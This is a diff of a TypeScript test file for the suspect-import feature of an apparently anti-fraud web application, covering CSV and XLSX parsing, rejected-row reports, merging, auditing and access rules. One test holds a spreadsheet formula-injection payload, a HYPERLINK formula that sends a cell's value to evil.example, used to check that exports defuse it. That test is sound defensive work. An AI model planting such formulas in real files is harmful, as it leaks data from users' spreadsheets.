@@ -6,7 +6,8 @@ import { mergeSighting } from "../../src/domain/suspects";
 import { startImport, whenSettled } from "../../src/imports/engine";
 import { importSource } from "../../src/suspects/import";
 import { createSuspect, setSuspectStatus } from "../../src/suspects/service";
-import { signIn, type TestPlatform, testPlatform } from "../helpers";
+import { signIn, type TestPlatform, testPlatform, sqlAll, sqlOne } from "../helpers";
+import { transaction } from "../../src/db";
 
 const FIXTURES = join(import.meta.dir, "../fixtures");
 const fixture = (name: string) => Bun.file(join(FIXTURES, name));
@@ -32,32 +33,29 @@ async function imported(p: TestPlatform, s: Session, name: string, bytes?: Uint8
   const location = res.headers.get("Location")!;
   const id = Number(/\/imports\/(\d+)/.exec(location)![1]);
   await whenSettled(p.deps, id);
-  const report = p.deps.db.$client.query("select * from imports where id = ?").get(id) as Record<
-    string,
-    number | string
-  >;
+  const report = (await sqlOne(p.deps.db, "select * from imports where id = ?", id)) as Record<string, number | string>;
   return { id, location, report };
 }
 
-const q = <T>(p: TestPlatform, sql: string, ...args: (string | number)[]) =>
-  p.deps.db.$client.query(sql).all(...args) as T[];
-const suspect = (p: TestPlatform, value: string) =>
-  p.deps.db.$client.query("select * from suspects where value = ?").get(value) as Record<string, unknown> | null;
+const q = async <T>(p: TestPlatform, sql: string, ...args: (string | number)[]) =>
+  (await sqlAll(p.deps.db, sql, ...args)) as T[];
+const suspect = async (p: TestPlatform, value: string) =>
+  (await sqlOne(p.deps.db, "select * from suspects where value = ?", value)) as Record<string, unknown> | null;
 
 describe("suspects import: the report", () => {
   test("every data row is imported, merged or rejected, and the counts add up", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { report } = await imported(p, s, "suspects-bad-rows.csv");
     expect(report).toMatchObject({ status: "done", total_rows: 8, imported: 4, merged: 1, rejected: 3 });
-    expect(q<{ n: number }>(p, "select count(*) as n from suspects")[0]!.n).toBe(4);
+    expect((await q<{ n: number }>(p, "select count(*) as n from suspects"))[0]!.n).toBe(4);
   });
 
   test("each rejected row keeps its line number as seen in the file, its raw text and the reason", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
-    const rows = q<{ line: number; raw: string; reason: string }>(
+    const rows = await q<{ line: number; raw: string; reason: string }>(
       p,
       "select line, raw, reason from import_rejections where import_id = ? order by line",
       id,
@@ -73,7 +71,7 @@ describe("suspects import: the report", () => {
   });
 
   test("the report page shows the counts, how they add up, and the rejected rows", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { location } = await imported(p, s, "suspects-bad-rows.csv");
     const html = await (await s.request(location)).text();
@@ -84,16 +82,16 @@ describe("suspects import: the report", () => {
   });
 
   test("a value repeated within the file is merged: one suspect, two sightings, both notes", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
-    expect(suspect(p, "+8613800138000")).toMatchObject({
+    expect(await suspect(p, "+8613800138000")).toMatchObject({
       sightings: 2,
       risk_level: "high",
       note: "群众举报\n第一次\n跨行备注",
     });
     expect(
-      q(
+      await q(
         p,
         "select source from suspect_sources where suspect_id = (select id from suspects where value = '+8613800138000')",
       ),
@@ -101,10 +99,10 @@ describe("suspects import: the report", () => {
   });
 
   test("normalised values with inferred institutions are stored", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     await imported(p, s, "suspects-bad-rows.csv");
-    const rows = q<{ kind: string; value: string; code: string | null; risk_level: string }>(
+    const rows = await q<{ kind: string; value: string; code: string | null; risk_level: string }>(
       p,
       "select s.kind, s.value, i.code, s.risk_level from suspects s left join institutions i on i.id = s.institution_id order by s.id",
     );
@@ -117,7 +115,7 @@ describe("suspects import: the report", () => {
   });
 
   test("rows split over many batches are each counted once, with their own line numbers", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const dir = mkdtempSync(join(tmpdir(), "fanzha-import-test-"));
     const path = join(dir, "x.csv");
     copyFileSync(join(FIXTURES, "suspects-bad-rows.csv"), path);
@@ -129,24 +127,24 @@ describe("suspects import: the report", () => {
       { batchRows: 2 },
     );
     await whenSettled(p.deps, id);
-    expect(q(p, "select total_rows, imported, merged, rejected from imports")).toEqual([
+    expect(await q(p, "select total_rows, imported, merged, rejected from imports")).toEqual([
       { total_rows: 8, imported: 4, merged: 1, rejected: 3 },
     ]);
-    expect(q<{ line: number }>(p, "select line from import_rejections order by id").map((r) => r.line)).toEqual([
-      5, 8, 10,
-    ]);
+    expect((await q<{ line: number }>(p, "select line from import_rejections order by id")).map((r) => r.line)).toEqual(
+      [5, 8, 10],
+    );
   });
 });
 
 describe("suspects import: files", () => {
   test("an XLSX file is read from its first worksheet; a card number stored as an Excel number is rejected", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { id, report } = await imported(p, s, "suspects.xlsx");
     expect(report).toMatchObject({ status: "done", total_rows: 5, imported: 3, merged: 0, rejected: 2 });
-    expect(suspect(p, "+8613800138000")).toMatchObject({ risk_level: "high" });
-    expect(suspect(p, "6222021234567890128")).toMatchObject({ kind: "bank_account", risk_level: "medium" });
-    const rejected = q<{ line: number; reason: string }>(
+    expect(await suspect(p, "+8613800138000")).toMatchObject({ risk_level: "high" });
+    expect(await suspect(p, "6222021234567890128")).toMatchObject({ kind: "bank_account", risk_level: "medium" });
+    const rejected = await q<{ line: number; reason: string }>(
       p,
       "select line, reason from import_rejections where import_id = ? order by line",
       id,
@@ -156,7 +154,7 @@ describe("suspects import: files", () => {
   });
 
   test("a GB18030 (GBK) CSV saved by Excel on Chinese Windows is read as Chinese", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { report } = await imported(p, s, "suspects-gb18030.csv");
     expect(report).toMatchObject({
@@ -166,23 +164,23 @@ describe("suspects import: files", () => {
       rejected: 3,
       header: "号码,类型,风险等级,备注",
     });
-    expect(suspect(p, "+8613800138000")).toMatchObject({ note: "群众举报\n第一次\n跨行备注" });
+    expect(await suspect(p, "+8613800138000")).toMatchObject({ note: "群众举报\n第一次\n跨行备注" });
   });
 
   test("a file with no recognisable header is refused with a clear message, and nothing is recorded", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const res = await upload(s, "no-header.csv");
     expect(res.status).toBe(422);
     const html = await res.text();
     expect(html).toContain("没有可识别的表头：第一行是数据（13800138000）");
     expect(html).toContain("号码");
-    expect(q(p, "select * from imports")).toEqual([]);
-    expect(q(p, "select * from suspects")).toEqual([]);
+    expect(await q(p, "select * from imports")).toEqual([]);
+    expect(await q(p, "select * from suspects")).toEqual([]);
   });
 
   test("through htmx the refusal comes back as the form with the message", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const res = await upload(s, "no-header.csv", undefined, "suspects", { htmx: true });
     expect(res.status).toBe(200);
@@ -192,7 +190,7 @@ describe("suspects import: files", () => {
   });
 
   test("an old binary .xls file is refused, asking for XLSX or CSV", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const res = await upload(s, "old.xls", new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]));
     expect(res.status).toBe(422);
@@ -200,7 +198,7 @@ describe("suspects import: files", () => {
   });
 
   test("an empty file is refused", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const res = await upload(s, "empty.csv", new Uint8Array());
     expect(res.status).toBe(422);
@@ -208,7 +206,7 @@ describe("suspects import: files", () => {
   });
 
   test("htmx uploads are sent on to the report with HX-Redirect", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const res = await upload(s, "suspects-bad-rows.csv", undefined, "suspects", { htmx: true });
     expect(res.headers.get("HX-Redirect")).toBe("/imports/1");
@@ -218,21 +216,21 @@ describe("suspects import: files", () => {
 
 describe("suspects import: the same file again", () => {
   test("re-importing the same file changes nothing and answers with the earlier report", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const first = await imported(p, s, "suspects-bad-rows.csv");
-    const before = q(p, "select * from suspects order by id");
+    const before = await q(p, "select * from suspects order by id");
     const again = await upload(s, "suspects-bad-rows.csv");
     expect(again.status).toBe(303);
     expect(again.headers.get("Location")).toBe(`/imports/${first.id}?repeated=1`);
-    expect(q(p, "select * from suspects order by id")).toEqual(before);
-    expect(q(p, "select count(*) as n from imports")).toEqual([{ n: 1 }]);
+    expect(await q(p, "select * from suspects order by id")).toEqual(before);
+    expect(await q(p, "select count(*) as n from imports")).toEqual([{ n: 1 }]);
     const page = await (await s.request(again.headers.get("Location")!)).text();
     expect(page).toContain("之前已经导入过");
   });
 
   test("the same file under another name is still the same file", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const first = await imported(p, s, "suspects-bad-rows.csv");
     const again = await upload(s, "renamed.csv", await fixture("suspects-bad-rows.csv").bytes());
@@ -240,7 +238,7 @@ describe("suspects import: the same file again", () => {
   });
 
   test("an interrupted import resumes from the first row it had not recorded", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const bytes = await fixture("suspects-bad-rows.csv").bytes();
     const sha = new Bun.CryptoHasher("sha256").update(bytes).digest("hex");
@@ -254,17 +252,17 @@ describe("suspects import: the same file again", () => {
     await whenSettled(p.deps, 1);
     // rows 4–8 recorded now; rows 1–3 not again (here: not at all, since the "crash" was simulated,
     // so line 6's repeat of row 1 is new)
-    expect(q(p, "select status, total_rows, imported, merged, rejected from imports")).toEqual([
+    expect(await q(p, "select status, total_rows, imported, merged, rejected from imports")).toEqual([
       { status: "done", total_rows: 8, imported: 5, merged: 0, rejected: 3 },
     ]);
-    expect(suspect(p, "+8613900139000")).toBeNull();
-    expect(suspect(p, "+8613800138000")).toMatchObject({ sightings: 1 });
+    expect(await suspect(p, "+8613900139000")).toBeNull();
+    expect(await suspect(p, "+8613800138000")).toMatchObject({ sightings: 1 });
   });
 });
 
 describe("suspects import: interrupted imports", () => {
   test("an import left running by a server that stopped is shown as interrupted, with how to resume", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     p.deps.db.$client.run(
       "insert into imports (kind, filename, file_hash, status, total_rows, imported) values ('suspects', 'x.csv', 'abc', 'running', 3, 3)",
@@ -277,22 +275,21 @@ describe("suspects import: interrupted imports", () => {
 
 describe("suspects import: merging", () => {
   test("an import merges into a known suspect exactly as mergeSighting says", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const who = { actor: null, ip: "test", at: p.clock.now() - 86_400_000 };
-    const { suspect: known } = createSuspect(p.deps.db, who, {
+    const { suspect: known } = await createSuspect(p.deps.db, who, {
       value: "13800138000",
       riskLevel: "low",
       note: "first report",
       source: "manual",
     });
-    p.deps.db.transaction((tx) =>
-      setSuspectStatus(tx, who, { suspectId: known.id, status: "cleared", reason: "owner verified" }),
+    await transaction(
+      p.deps.db,
+      async (tx) =>
+        await setSuspectStatus(tx, who, { suspectId: known.id, status: "cleared", reason: "owner verified" }),
     );
-    const before = p.deps.db.$client.query("select * from suspects where id = ?").get(known.id) as Record<
-      string,
-      never
-    >;
+    const before = (await sqlOne(p.deps.db, "select * from suspects where id = ?", known.id)) as Record<string, never>;
     const csv = new TextEncoder().encode("phone,risk,note\n+86 138 0013 8000,高,second report\n");
     await imported(p, s, "merge.csv", csv);
     const expected = mergeSighting(
@@ -309,7 +306,7 @@ describe("suspects import: merging", () => {
       },
       { at: p.clock.now(), riskLevel: "high", inferredInstitutionId: before.institution_id, note: "second report" },
     );
-    expect(suspect(p, "+8613800138000")).toMatchObject({
+    expect(await suspect(p, "+8613800138000")).toMatchObject({
       risk_level: expected.riskLevel,
       status: expected.status,
       status_reason: expected.statusReason,
@@ -331,7 +328,7 @@ describe("suspects import: merging", () => {
 
 describe("suspects import: downloads, progress, audit", () => {
   test("an English reader gets the rejected rows' reasons in English", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
     const res = await p.app.request(`/imports/${id}/rejected.csv`, { headers: { Cookie: `${s.cookie}; fz_lang=en` } });
@@ -343,7 +340,7 @@ describe("suspects import: downloads, progress, audit", () => {
   });
 
   test("the rejected rows download as CSV: line, reason, and the row under the file's own header", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
     const res = await s.request(`/imports/${id}/rejected.csv`);
@@ -363,7 +360,7 @@ describe("suspects import: downloads, progress, audit", () => {
   });
 
   test("a rejected row holding a spreadsheet formula comes back defused in rejected.csv", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const csv =
       '号码,类型,风险等级,备注\r\n=HYPERLINK("http://evil.example/?x="&A1;"点此"),,,@SUM(1+1)\r\n13800138000,phone,high,-2+3\r\n';
@@ -379,7 +376,7 @@ describe("suspects import: downloads, progress, audit", () => {
   });
 
   test("progress is published on the event bus while the rows are recorded, then the end", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const seen: { event: string; data: string }[] = [];
     p.deps.events.subscribe("import:1", (e) => seen.push(e));
@@ -395,7 +392,7 @@ describe("suspects import: downloads, progress, audit", () => {
   });
 
   test("the live stream of a finished import sends the result and ends", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
     const res = await s.request(`/imports/${id}/events`);
@@ -407,10 +404,10 @@ describe("suspects import: downloads, progress, audit", () => {
   });
 
   test("the import is audited: who, which file, and the counts", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
-    const rows = q<{ actor: string; action: string; entity_id: string; detail: string }>(
+    const rows = await q<{ actor: string; action: string; entity_id: string; detail: string }>(
       p,
       "select actor, action, entity_id, detail from audit_log where entity = 'import' order by id",
     );
@@ -428,11 +425,11 @@ describe("suspects import: downloads, progress, audit", () => {
   });
 
   test("downloading the rejected rows is audited as an export", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
     await (await s.request(`/imports/${id}/rejected.csv`)).text();
-    expect(q(p, "select action from audit_log where entity = 'import' and action = 'export'")).toEqual([
+    expect(await q(p, "select action from audit_log where entity = 'import' and action = 'export'")).toEqual([
       { action: "export" },
     ]);
   });
@@ -440,21 +437,21 @@ describe("suspects import: downloads, progress, audit", () => {
 
 describe("suspects import: who may", () => {
   test("publicity may not import suspects", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "publicity");
     const res = await upload(s, "suspects-bad-rows.csv");
     expect(res.status).toBe(403);
-    expect(q(p, "select * from imports")).toEqual([]);
+    expect(await q(p, "select * from imports")).toEqual([]);
   });
 
   test("publicity may not open the import screen", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "publicity");
     expect((await s.request("/imports")).status).toBe(403);
   });
 
   test("a bank's staff may not read an import's report or its rejected rows", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const agent = await signIn(p, "agent");
     const { id } = await imported(p, agent, "suspects-bad-rows.csv");
     const bank = await signIn(p, "bank", "ICBC");
@@ -463,17 +460,17 @@ describe("suspects import: who may", () => {
   });
 
   test("an upload without the session's CSRF token is refused", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     const res = await upload(s, "suspects-bad-rows.csv", undefined, "suspects", {
       headers: { "X-CSRF-Token": "forged" },
     });
     expect(res.status).toBe(403);
-    expect(q(p, "select * from imports")).toEqual([]);
+    expect(await q(p, "select * from imports")).toEqual([]);
   });
 
   test("an unknown kind of import is a 404", async () => {
-    const p = testPlatform();
+    const p = await testPlatform();
     const s = await signIn(p, "agent");
     expect((await upload(s, "suspects-bad-rows.csv", undefined, "weather")).status).toBe(404);
   });
